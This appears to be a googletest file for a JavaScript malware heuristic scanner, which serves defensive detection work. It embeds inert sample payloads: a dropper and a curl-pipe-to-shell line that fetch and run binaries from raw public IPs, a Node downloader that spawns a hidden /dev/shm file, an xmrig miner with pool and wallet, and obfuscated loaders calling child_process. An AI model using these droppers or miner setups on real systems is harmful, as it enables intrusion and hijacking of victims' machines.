#include "match/js_heuristics.h"

#include <gtest/gtest.h>

#include <string>
#include <thread>

#include "match/test_rules.h"

namespace deminer {
namespace {

const JsHeuristics& Heuristics() {
  static const JsHeuristics h(DefaultRules());
  return h;
}

bool HasSignal(const std::vector<JsSignal>& s, std::string_view id) {
  return std::any_of(s.begin(), s.end(), [&](const JsSignal& x) { return x.id == id; });
}

std::string Ids(const std::vector<JsSignal>& s) {
  std::string out;
  for (const JsSignal& x : s) out += x.id + "(" + std::to_string(x.weight) + ") ";
  return out;
}

// An obfuscator.io-style loader, written for this test (inert: never run).
std::string ObfuscatedLoader() {
  std::string s =
      "var _0x4f2a=['\\x65\\x76\\x61\\x6c','\\x61\\x74\\x6f\\x62'];(function(_0x1b2c3d,_0x5e6f7a){"
      "var "
      "_0x2c3d4e=function(_0x3d4e5f){while(--_0x3d4e5f){_0x1b2c3d['push'](_0x1b2c3d['shift']());}};"
      "_0x2c3d4e(++_0x5e6f7a);}(_0x4f2a,0x1f3));\n"
      "(function(){while(!![]){try{var _0xa1b2c3=parseInt(_0xd4e5('0x0'));"
      "if(_0xa1b2c3===0x3b1)break;else _0xf0e1['push'](_0xf0e1['shift']());}"
      "catch(_0xb2c3d4){_0xf0e1['push'](_0xf0e1['shift']());}}}());\n";
  for (int i = 0; i < 40; ++i) {
    s += "var _0x" + std::to_string(100000 + i * 7).substr(0, 5) + "a=_0xd4e5('0x" +
         std::to_string(i) + "');";
  }
  s += "\nvar _0x5e7a=[";
  for (int i = 0; i < 32; ++i) s += "'\\x68\\x65\\x6c\\x" + std::to_string(10 + i) + "',";
  s += "];";
  s += "\nvar _0xc0de01=require('child_process');_0xc0de01['exec'](_0xd4e5('0x1f'));\n";
  return s;
}

// The seed 001 kind of dropper: fetches /tmp/dbus_daemon, chmods and runs it.
constexpr std::string_view kSeed001Dropper = R"JS(
const { exec } = require("child_process");
function check() {
  exec("command -v curl", (err) => {
    if (err) return;
    exec("curl -sL -o /tmp/dbus_daemon http://45.137.21.9:8080/d && chmod 755 /tmp/dbus_daemon && /tmp/dbus_daemon", () => {});
  });
}
setInterval(check, 600000);
)JS";

constexpr std::string_view kBase64Eval = R"JS(
module.exports = function init() { return 1; };
eval(Buffer.from("Y29uc29sZS5sb2coImluZXJ0IHRlc3Qgc3RyaW5nIik7", "base64").toString());
)JS";

constexpr std::string_view kAtobFunction = R"JS(
!function(){var c=atob("Y29uc29sZS5sb2coMSk=");var f=new Function(c);f();}();
)JS";

constexpr std::string_view kNodeDownloader = R"JS(
const https = require('https'), fs = require('fs'), cp = require('child_process');
https.get('https://example.invalid/x', (r) => {
  const f = fs.createWriteStream('/dev/shm/.cache-x');
  r.pipe(f).on('finish', () => { fs.chmodSync('/dev/shm/.cache-x', 0o755); cp.spawn('/dev/shm/.cache-x', [], {detached: true}).unref(); });
});
)JS";

constexpr std::string_view kMiner = R"JS(
const { spawn } = require("child_process");
spawn("./xmrig", ["-o", "stratum+tcp://pool.supportxmr.com:3333", "--donate-level", "1"]);
)JS";

constexpr std::string_view kCurlPipe = R"JS(
require('child_process').execSync('curl -fsSL http://93.184.1.77/i.sh | sh');
)JS";

// Obfuscated code that hides its require: no literal child_process at all.
std::string HiddenRequireLoader() {
  std::string s =
      "(function(){while(!![]){try{_0x1f2e['push'](_0x1f2e['shift']());}catch(e){}}}());\n";
  for (int i = 0; i < 30; ++i)
    s += "var _0x" + std::to_string(20000 + i * 13) + "=_0xab12(" + std::to_string(i) + ");";
  s += "\nvar _0xcp01=require(_0xab12('0x1f'));_0xcp01[_0xab12('0x20')](_0xab12('0x21'));\n";
  return s;
}

struct Case {
  std::string name;
  std::string text;
  std::vector<std::string> expect;  // signal ids that must be there
  bool critical = false;            // a signal that makes the finding critical
};

class JsHeuristicsPositiveTest : public testing::TestWithParam<Case> {};

TEST_P(JsHeuristicsPositiveTest, ReachesTheThreshold) {
  const Case& c = GetParam();
  std::vector<JsSignal> signals;
  const int score = Heuristics().Score(c.text, signals);
  EXPECT_GE(score, JsHeuristics::kReportScore) << Ids(signals);
  for (const std::string& id : c.expect)
    EXPECT_TRUE(HasSignal(signals, id)) << id << ": " << Ids(signals);
  const bool critical = std::any_of(signals.begin(), signals.end(),
                                    [](const JsSignal& s) { return JsHeuristics::Critical(s.id); });
  EXPECT_EQ(critical, c.critical) << Ids(signals);
  for (const JsSignal& s : signals) {
    EXPECT_GE(s.line, 1) << s.id;
    EXPECT_FALSE(s.excerpt.empty()) << s.id;
    EXPECT_LE(s.excerpt.size(), 140U) << s.id;
    EXPECT_FALSE(s.why.empty()) << s.id;
  }
}

INSTANTIATE_TEST_SUITE_P(
    Droppers, JsHeuristicsPositiveTest,
    testing::Values(
        Case{"obfuscated_loader",
             ObfuscatedLoader(),
             {"obfuscator-identifiers", "obfuscator-rotation", "hex-string-table",
              "obfuscated-exec"},
             false},
        Case{"seed001_dropper",
             std::string(kSeed001Dropper),
             {"child-process", "download-command", "temp-path", "chmod-exec", "dropper-chain",
              "miner-name", "public-ip"},
             true},
        Case{"obfuscated_hidden_require",
             HiddenRequireLoader(),
             {"obfuscator-rotation", "hidden-require", "obfuscated-exec"},
             false},
        Case{"base64_eval", std::string(kBase64Eval), {"exec-decoded"}, false},
        Case{
            "packed",
            R"JS(eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('0("1")',2,2,'alert|x'.split('|'),0,{})))JS",
            {"packer", "obfuscated-exec"},
            false},
        Case{"pack_wallet",
             "const cfg = { algo: 'rx/0', bin: './xmrig', user: "
             "'42s7H81wKKbggZsnd5geEeC7ANWUDhkqf7xhdSgaBd9ZE61qwwh7ch1gBQkE5FbvabAdNTeNV18nBNTpioUq"
             "mgHj4h4kks2' };",
             {"miner-wallet", "miner-string", "miner-combination"},
             true},
        Case{"atob_function", std::string(kAtobFunction), {"exec-near-decoded"}, false},
        Case{"node_downloader",
             std::string(kNodeDownloader),
             {"download-api", "temp-write", "exec-temp", "dropper-chain"},
             true},
        Case{"miner", std::string(kMiner), {"miner-string", "miner-pool", "miner-exec"}, true},
        Case{"curl_pipe_sh",
             std::string(kCurlPipe),
             {"pipe-to-shell", "dropper-chain", "ip-with-exec"},
             true}),
    [](const testing::TestParamInfo<Case>& i) { return i.param.name; });

TEST(JsHeuristicsTest, SignalPointsAtItsLine) {
  std::vector<JsSignal> signals;
  Heuristics().Score(kSeed001Dropper, signals);
  for (const JsSignal& s : signals) {
    if (s.id == "download-command") {
      EXPECT_EQ(s.line, 6);
      EXPECT_NE(s.excerpt.find("curl"), std::string::npos) << s.excerpt;
    }
  }
}

// Ordinary code: single weak signals and the idioms of real bundles.
struct Quiet {
  std::string name;
  std::string text;
};

class JsHeuristicsNegativeTest : public testing::TestWithParam<Quiet> {};

TEST_P(JsHeuristicsNegativeTest, StaysQuiet) {
  std::vector<JsSignal> signals;
  const int score = Heuristics().Score(GetParam().text, signals);
  EXPECT_LT(score, JsHeuristics::kReportScore) << Ids(signals);
}

INSTANTIATE_TEST_SUITE_P(
    Ordinary, JsHeuristicsNegativeTest,
    testing::Values(
        Quiet{
            "function_return_this",
            R"JS(var g=typeof globalThis!=="undefined"?globalThis:new Function("return this")();)JS"},
        Quiet{
            "lodash_root",
            R"JS(var freeGlobal=typeof global=='object'&&global&&global.Object===Object&&global;var freeSelf=typeof self=='object'&&self&&self.Object===Object&&self;var root=freeGlobal||freeSelf||Function('return this')();)JS"},
        Quiet{
            "regenerator",
            R"JS(try{regeneratorRuntime=runtime}catch(accidentalStrictMode){if(typeof globalThis==="object"){globalThis.regeneratorRuntime=runtime}else{Function("r","regeneratorRuntime = r")(runtime)}})JS"},
        Quiet{"webpack_eval_source_map",
              R"JS(/***/ "./src/index.js":
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
eval("__webpack_require__.r(__webpack_exports__);\nconst s = atob(window.x); console.log(String.fromCharCode(65));\n//# sourceURL=webpack://app/./src/index.js?");
/***/ }),
eval("var cp = __webpack_require__(/*! child_process */ \"child_process\");\n//# sourceMappingURL=data:application/json;charset=utf-8;base64,eyJ2ZXJzaW9uIjozLCJmaWxlIjoiaW5kZXguanMiLCJzb3VyY2VzIjpbIndlYnBhY2s6Ly8vLi9zcmMvaW5kZXguanMiXX0=\n//# sourceURL=webpack-internal:///./src/a.js\n");)JS"},
        Quiet{
            "umd_wrapper",
            R"JS((function (global, factory) {typeof exports === 'object' && typeof module !== 'undefined' ? module.exports = factory() : typeof define === 'function' && define.amd ? define(factory) : (global = typeof globalThis !== 'undefined' ? globalThis : global || self, global.dayjs = factory());}(this, (function () { 'use strict'; return 1; })));
//# sourceMappingURL=data:application/json;charset=utf-8;base64,eyJ2ZXJzaW9uIjozLCJzb3VyY2VzIjpbXSwibmFtZXMiOltdLCJtYXBwaW5ncyI6IiJ9)JS"},
        Quiet{
            "core_js_atob_polyfill",
            R"JS(var itoc='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';var fromCharCode=String.fromCharCode;$({global:true,bind:true,enumerable:true,forced:FORCED},{atob:function atob(data){validateArgumentsLength(arguments.length,1);if(NO_SPACES_IGNORE)return call($atob,globalThis,data);var string=replace(toString(data),whitespaces,'');var output='';var position=0;var bc=0;var chr,bs;while(position<length(string)){chr=charAt(string,position++);bs=bc%4?bs*64+chr:chr;if(bc++%4)output+=fromCharCode(255&bs>>(-2*bc&6));}return output;}});)JS"},
        Quiet{
            "build_tool_child_process",
            R"JS(const { execSync, spawn } = require("child_process"); const os = require("os"); const path = require("path");
function gitHash(){ try { return execSync("git rev-parse HEAD", {cwd: process.cwd()}).toString().trim(); } catch { return ""; } }
const tmp = path.join(os.tmpdir(), "jest-cache"); spawn(process.execPath, [require.resolve("./worker")], {stdio: "inherit"});
fetch(process.env.API_URL + "/status").then(r => r.json());)JS"},
        Quiet{
            "tmp_default_only",
            R"JS(const dir = process.env.TMPDIR || "/tmp/next-cache"; fs.mkdirSync(dir, {recursive: true});)JS"},
        Quiet{
            "version_strings",
            R"JS(const versions = {"chrome": "120.0.6099.109", win: "10.0.19045.0", mac: "4.0.1.12", ip: "127.0.0.1", lan: "192.168.1.10", doc: "203.0.113.7", dns: "8.8.8.8"};)JS"},
        Quiet{
            "docs_curl",
            R"JS(console.log("Install the CLI with: curl -fsSL https://example.invalid/install.sh | bash");)JS"},
        Quiet{
            "wasm_base64",
            R"JS(const bytes = Buffer.from("AGFzbQEAAAABBgFgAX8BfwMCAQAHBwEDYWRkAAAKCQEHACAAQQFqCw==", "base64"); WebAssembly.instantiate(bytes);)JS"},
        Quiet{"queue_push_shift",
              R"JS(while (!![]) { if (q.length > 10) break; q.push(q.shift()); })JS"},
        Quiet{"hex_escapes_some",
              R"JS(var re = /[\x00-\x1f]/; var s = "\x1b\x5b\x30\x6d"; var t = '\x00\x01\x02';)JS"},
        Quiet{"garbage_binary",
              std::string("\x00\xff\xfe_0x\x01eval(atob(", 16) + std::string(5000, '\xff')},
        Quiet{"empty", ""}),
    [](const testing::TestParamInfo<Quiet>& i) { return i.param.name; });

TEST(JsHeuristicsTest, CapsSignalsAndBoundsExcerpts) {
  std::string text(200000, 'a');  // one long minified line
  text += ObfuscatedLoader();
  text += std::string(200000, 'b');
  text += kSeed001Dropper;
  text += kMiner;
  std::vector<JsSignal> signals;
  const int score = Heuristics().Score(text, signals);
  EXPECT_GE(score, JsHeuristics::kReportScore);
  EXPECT_LE(signals.size(), JsHeuristics::kMaxSignals);
  for (const JsSignal& s : signals) EXPECT_LE(s.excerpt.size(), 140U);
  // Strongest first.
  for (size_t i = 1; i < signals.size(); ++i) EXPECT_GE(signals[i - 1].weight, signals[i].weight);
}

TEST(JsHeuristicsTest, ThreadSafe) {
  const std::string loader = ObfuscatedLoader();
  std::vector<int> scores(4);
  std::vector<std::thread> threads;
  for (size_t i = 0; i < scores.size(); ++i) {
    threads.emplace_back([&, i] {
      for (int k = 0; k < 50; ++k) {
        std::vector<JsSignal> s;
        scores[i] = Heuristics().Score(i % 2 == 0 ? std::string_view(loader) : kSeed001Dropper, s);
      }
    });
  }
  for (auto& t : threads) t.join();
  std::vector<JsSignal> a, b;
  EXPECT_EQ(scores[0], Heuristics().Score(loader, a));
  EXPECT_EQ(scores[1], Heuristics().Score(kSeed001Dropper, b));
}

TEST(JsHeuristicsTest, PublicIpNotVersionsOidsNetworksOrPrivate) {
  for (const char* quiet :
       {R"("120.0.6099.109")", R"("4.0.1.12")", R"("1.3.101.112")", R"("3.1.8.25")",
        R"("100.200.30.4.5")", R"("192.31.196.0/24")", R"("127.0.0.1")", R"("10.1.2.3")",
        R"("172.20.1.1")", R"("192.168.1.10")", R"("203.0.113.7")", R"("8.8.8.8")",
        R"("240.1.2.3")"}) {
    std::vector<JsSignal> signals;
    Heuristics().Score(std::string("var a = ") + quiet + ";", signals);
    EXPECT_FALSE(HasSignal(signals, "public-ip")) << quiet << ": " << Ids(signals);
  }
  std::vector<JsSignal> signals;
  Heuristics().Score(R"(var u = "http://45.137.21.9:8080/x";)", signals);
  ASSERT_TRUE(HasSignal(signals, "public-ip")) << Ids(signals);
  EXPECT_NE(signals[0].why.find("45.137.21.9"), std::string::npos);
}

TEST(JsHeuristicsTest, EveryBuiltInPatternCompiles) {
  EXPECT_EQ(Heuristics().RejectedPatterns(), 0U);
}

TEST(JsHeuristicsTest, CharCodeChainAloneIsWeak) {
  std::vector<JsSignal> signals;
  const int score = Heuristics().Score(
      "var s = String.fromCharCode(104,101,108,108,111,32,119,111,114,108,100,33,33,33,33,33,33);",
      signals);
  EXPECT_TRUE(HasSignal(signals, "charcode-chain")) << Ids(signals);
  EXPECT_GT(score, 0);
  EXPECT_LT(score, JsHeuristics::kReportScore);
}

TEST(JsHeuristicsTest, SeverityClasses) {
  EXPECT_TRUE(JsHeuristics::Critical("dropper-chain"));
  EXPECT_TRUE(JsHeuristics::Critical("miner-pool"));
  EXPECT_FALSE(JsHeuristics::Critical("exec-decoded"));
  EXPECT_TRUE(JsHeuristics::Executes("exec-decoded"));
  EXPECT_FALSE(JsHeuristics::Executes("child-process"));
}

}  // namespace
}  // namespace deminer
